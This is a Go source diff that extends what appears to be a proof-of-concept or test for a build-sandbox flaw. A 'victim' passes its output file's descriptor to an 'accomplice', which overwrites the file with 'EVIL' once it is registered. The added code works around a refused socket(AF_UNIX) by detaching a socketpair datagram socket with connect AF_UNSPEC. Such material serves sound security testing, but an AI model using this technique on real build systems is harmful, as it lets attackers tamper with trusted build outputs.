@@ -12,12 +12,18 @@
 //	    the descriptor, waits until the file it names is registered (mtime
 //	    1, as canonicalisation leaves it) or removed (no links left), waits
 //	    a second more and writes EVIL over it; it exits 0 whatever happens
+//
+// Where socket(AF_UNIX) is refused, both try the second way: a datagram
+// socket from socketpair, which the accomplice frees from its pair
+// (connect AF_UNSPEC) and binds to NAME-dgram, and to which the victim
+// sends from its own.
 package main
 
 import (
 	"fmt"
 	"os"
 	"time"
+	"unsafe"
 
 	"golang.org/x/sys/unix"
 )
@@ -57,6 +63,7 @@ func victim(addr *unix.SockaddrUnix, out string) {
 	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
 	if err != nil {
 		say("victim: socket: %v", err)
+		victimDgram(addr, fd)
 		return
 	}
 	if err := unix.Bind(s, addr); err != nil {
@@ -88,6 +95,9 @@ func accomplice(addr *unix.SockaddrUnix, evil string) {
 	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
 	if err != nil {
 		say("accomplice: socket: %v", err)
+		if fd, ok := accompliceDgram(addr); ok {
+			overwrite(fd, evil)
+		}
 		return
 	}
 	deadline := time.Now().Add(20 * time.Second)
@@ -117,9 +127,14 @@ func accomplice(addr *unix.SockaddrUnix, evil string) {
 		say("accomplice: no descriptor came: %v", err)
 		return
 	}
-	fd := fds[0]
 	say("accomplice: got a descriptor")
-	deadline = time.Now().Add(30 * time.Second)
+	overwrite(fds[0], evil)
+}
+
+// overwrite waits until the file of fd is registered or removed, then
+// writes evil over it.
+func overwrite(fd int, evil string) {
+	deadline := time.Now().Add(30 * time.Second)
 	for {
 		var st unix.Stat_t
 		if err := unix.Fstat(fd, &st); err != nil {
@@ -150,4 +165,77 @@ func accomplice(addr *unix.SockaddrUnix, evil string) {
 		return
 	}
 	say("accomplice: wrote over it")
+}
+
+// dgramAddr is the name of the second way: datagrams.
+func dgramAddr(addr *unix.SockaddrUnix) *unix.SockaddrUnix {
+	return &unix.SockaddrUnix{Name: addr.Name + "-dgram"}
+}
+
+// victimDgram is the way without socket(AF_UNIX): a datagram socket from
+// socketpair may send to any named socket that has no peer.
+func victimDgram(addr *unix.SockaddrUnix, fd int) {
+	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
+	if err != nil {
+		say("victim: socketpair dgram: %v", err)
+		return
+	}
+	to := dgramAddr(addr)
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		err = unix.Sendmsg(pair[0], []byte("x"), unix.UnixRights(fd), to, 0)
+		if err == nil {
+			say("victim: sent the descriptor of the output by datagram")
+			return
+		}
+		if time.Now().After(deadline) {
+			say("victim: sendmsg dgram: %v", err)
+			return
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// accompliceDgram takes a datagram socket from socketpair, dissolves its
+// pair (connect AF_UNSPEC), names it and waits for a descriptor.
+func accompliceDgram(addr *unix.SockaddrUnix) (int, bool) {
+	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
+	if err != nil {
+		say("accomplice: socketpair dgram: %v", err)
+		return 0, false
+	}
+	s := pair[0]
+	// connect(2) with AF_UNSPEC: struct sockaddr of family 0.
+	var unspec [16]byte
+	if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(s), uintptr(unsafe.Pointer(&unspec[0])), uintptr(len(unspec))); e != 0 {
+		say("accomplice: connect AF_UNSPEC: %v", e)
+		return 0, false
+	}
+	if err := unix.Bind(s, dgramAddr(addr)); err != nil {
+		say("accomplice: bind dgram: %v", err)
+		return 0, false
+	}
+	pfd := []unix.PollFd{{Fd: int32(s), Events: unix.POLLIN}}
+	if n, err := unix.Poll(pfd, 20000); n != 1 {
+		say("accomplice: no datagram came: %v", err)
+		return 0, false
+	}
+	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
+	_, oobn, _, _, err := unix.Recvmsg(s, buf, oob, 0)
+	if err != nil {
+		say("accomplice: recvmsg dgram: %v", err)
+		return 0, false
+	}
+	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
+	if err != nil || len(msgs) != 1 {
+		say("accomplice: no descriptor came: %v", err)
+		return 0, false
+	}
+	fds, err := unix.ParseUnixRights(&msgs[0])
+	if err != nil || len(fds) != 1 {
+		say("accomplice: no descriptor came: %v", err)
+		return 0, false
+	}
+	say("accomplice: got a descriptor by datagram")
+	return fds[0], true
 }
